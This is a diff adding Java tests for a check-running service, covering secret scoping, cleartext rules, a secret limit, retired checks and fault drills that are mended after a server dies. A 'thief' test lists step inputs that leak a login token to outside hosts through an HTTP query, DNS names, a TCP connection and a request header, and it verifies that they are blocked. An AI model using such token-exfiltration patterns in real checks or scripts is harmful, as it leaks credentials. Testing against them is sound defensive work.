@@ -22,6 +22,7 @@ import java.io.InputStream;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
 import java.time.Duration;
+import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
@@ -48,6 +49,8 @@ class ChecksTest {
     private final Checks checks;
     private final CheckRuns runs;
     private final CheckWork work;
+    private final RunQueue queue;
+    private final Runner runner;
     private final CheckSecrets secrets;
     private final CheckFacts facts;
     private final Products products;
@@ -63,6 +66,8 @@ class ChecksTest {
             Checks checks,
             CheckRuns runs,
             CheckWork work,
+            RunQueue queue,
+            Runner runner,
             CheckSecrets secrets,
             CheckFacts facts,
             Products products,
@@ -74,6 +79,8 @@ class ChecksTest {
         this.checks = checks;
         this.runs = runs;
         this.work = work;
+        this.queue = queue;
+        this.runner = runner;
         this.secrets = secrets;
         this.facts = facts;
         this.products = products;
@@ -239,6 +246,170 @@ class ChecksTest {
         assertThat(done("thief").steps().getFirst().says()).contains("is for shop.example.com, not for localhost");
         assertThat(done("told").steps().getFirst().says()).contains("cannot stand in an address");
         assertThat(shop.heard()).doesNotContain(Shop.PASSWORD);
+    }
+
+    @Test
+    void what_was_kept_after_a_secret_goes_to_the_hosts_of_the_secret_alone_and_is_not_told() {
+        var signIn = """
+                  - http: POST ${shop}/login
+                    json: {user: probe, password: "${secret.PROBE}"}
+                    keep: {token: /token}
+                """;
+        secrets.write(product, "PROBE", "localhost", Shop.PASSWORD, QA);
+        for (var thief : List.of(
+                "http: GET http://127.0.0.1:1/?${token}",
+                "dns: ${token}.example.com",
+                "tcp: ${token}.example.com:80",
+                "{http: GET https://example.com/, headers: {X-Token: '${token}'}}")) {
+            checks.write(product, "thief", flow(signIn + "  - " + thief + "\n"), null, QA);
+            assertThat(done("thief").steps().getLast().says())
+                    .as(thief)
+                    .contains("may go to the hosts of the secret alone");
+        }
+        checks.write(
+                product, "told", flow(signIn.replace("keep:", "expect: {json: {/token: x}}\n    keep:")), null, QA);
+        assertThat(done("told").steps().getFirst().says()).isEqualTo("/token is a text of 13 characters, expected x.");
+
+        secrets.write(product, "PROBE", "localhost, 127.0.0.1", Shop.PASSWORD, QA);
+        checks.write(
+                product,
+                "meant",
+                flow(signIn + "  - http: GET http://127.0.0.1:" + shop.port() + "/?${token}\n"),
+                null,
+                QA);
+        assertThat(done("meant").steps().getLast().says()).contains("private address");
+    }
+
+    @Test
+    void a_secret_crosses_the_network_in_the_clear_only_where_the_text_says_so() {
+        secrets.write(product, "PROBE", "shop.invalid", Shop.PASSWORD, QA);
+        var step = "  - http: POST http://shop.invalid/login\n    body: ${secret.PROBE}\n";
+        checks.write(product, "clear", flow(step), null, QA);
+        assertThat(done("clear").steps().getFirst().says()).contains("to shop.invalid in the clear");
+        checks.write(product, "clear", flow(step + "    plain: true\n"), null, QA);
+        assertThat(done("clear").steps().getFirst().says()).startsWith("No answer: shop.invalid");
+    }
+
+    @Test
+    void the_two_hundredth_secret_can_still_be_replaced() {
+        database.sql("""
+                        insert into checks.secret (id, product, name, host, value, written_at, written_by)
+                        select gen_random_uuid(), :product, 'FILLED_' || n, 'a', ''::bytea, now(), 'system:test'
+                          from generate_series(1, 199) n
+                        """).param("product", product).update();
+        secrets.write(product, "LAST", "a.example.com", "first value", QA);
+        secrets.write(product, "LAST", "b.example.com", "second value", QA);
+        assertThat(secrets.of(product))
+                .anyMatch(kept -> kept.name().equals("LAST") && kept.host().equals("b.example.com"));
+        assertThatThrownBy(() -> secrets.write(product, "MORE", "a.example.com", "value", QA))
+                .hasMessageContaining("200 secrets");
+        database.sql("delete from checks.secret where name like 'FILLED_%'").update();
+    }
+
+    @Test
+    void what_a_check_proved_then_it_proves_though_it_is_retired_since() {
+        secrets.write(product, "PROBE", "localhost", Shop.PASSWORD, QA);
+        checks.write(product, "orders", orders(), null, QA);
+        done("orders");
+        var then = clock.instant();
+        assertThat(fact(COMMIT)).hasSize(1);
+
+        clock.advance(Duration.ofMinutes(5));
+        checks.retire(product, "orders", QA);
+
+        assertThat(fact(COMMIT)).isEmpty();
+        assertThat(facts.facts(new FactSource.Question(product + "-1", product, "", COMMIT, then)))
+                .as("judged once more, as of then")
+                .hasSize(1);
+    }
+
+    @Test
+    void a_run_that_cannot_be_read_stops_no_other() {
+        checks.write(product, "unreadable", flow("  - dns: localhost\n"), null, QA);
+        checks.write(product, "names", flow("  - dns: localhost\n"), null, QA);
+        runs.ask(product, "unreadable", QA);
+        clock.advance(Duration.ofSeconds(1));
+        runs.ask(product, "names", QA);
+        database.sql("update checks.text set text = 'no check' where definition = :id")
+                .param("id", checks.find(product, "unreadable", QA).id())
+                .update();
+
+        work.workOff();
+
+        assertThat(states("unreadable")).containsExactly("broken_off");
+        assertThat(states("names")).containsExactly("passed");
+    }
+
+    private static final String FAULT = """
+              - drill:
+                  break: [{http: 'POST ${shop}/faults', keep: {fault: /id}}]
+                  survives: [{http: 'GET ${shop}/orders/health'}]
+                  mend: [{http: 'DELETE ${shop}/faults/${fault}'}]
+            """;
+
+    @Test
+    void what_a_killed_server_left_broken_is_mended_by_what_its_steps_had_kept_and_until_it_is() {
+        checks.write(product, "drill", flow(FAULT), null, QA);
+        var run = runs.ask(product, "drill", QA);
+        var taken = queue.next(clock.instant()).orElseThrow();
+        assertThat(taken.id()).isEqualTo(run.id());
+        queue.breaking(
+                run.id(),
+                Map.of("fault", new Values.Kept("f-17", null), "shop", new Values.Kept(shop.address(), null)));
+        assertThat(kept()).as("sealed").doesNotContain("f-17");
+        shop.breaks();
+        shop.stubborn(true);
+
+        clock.advance(Duration.ofMinutes(4));
+        work.workOff();
+        assertThat(whole(run).steps())
+                .singleElement()
+                .satisfies(step -> assertThat(step.failed()).isTrue());
+        assertThat(shop.pays()).isFalse();
+
+        shop.stubborn(false);
+        clock.advance(Duration.ofMinutes(2));
+        work.workOff();
+
+        assertThat(shop.pays()).isTrue();
+        assertThat(whole(run).state()).isEqualTo("broken_off");
+        assertThat(whole(run).steps())
+                .singleElement()
+                .satisfies(step -> assertThat(step.failed()).isFalse());
+    }
+
+    private CheckRun whole(CheckRun run) {
+        return runs.whole(checks.find(product, "drill", QA), run.id());
+    }
+
+    @Test
+    void a_server_that_ends_breaks_no_more_and_mends_what_it_broke() {
+        var known = new HashMap<String, Values.Kept>();
+        var ending = new Runner.Server() {
+            @Override
+            public boolean rest(Duration time) {
+                return false;
+            }
+
+            @Override
+            public boolean ending() {
+                return !shop.pays();
+            }
+
+            @Override
+            public void breaking(Map<String, Values.Kept> now) {
+                known.putAll(now);
+            }
+        };
+
+        var result = runner.run(DefinitionReader.read(flow(FAULT)), Map.of(), ending);
+
+        assertThat(result.cut()).isTrue();
+        assertThat(result.outcomes())
+                .extracting(Outcome::how)
+                .containsExactly(Outcome.How.PASSED, Outcome.How.SKIPPED, Outcome.How.PASSED);
+        assertThat(shop.pays()).isTrue();
+        assertThat(known).containsEntry("fault", new Values.Kept("f-17", null));
     }
 
     @Test
@@ -504,6 +675,7 @@ class ChecksTest {
         return database.sql("""
                         select coalesce(string_agg(part, ' '), '') from (
                             select row(d.*)::text from checks.definition d union all
+                            select row(r.*)::text from checks.run r union all
                             select row(t.*)::text from checks.text t union all
                             select row(s.*)::text from checks.step s union all
                             select row(v.*)::text from checks.secret v union all
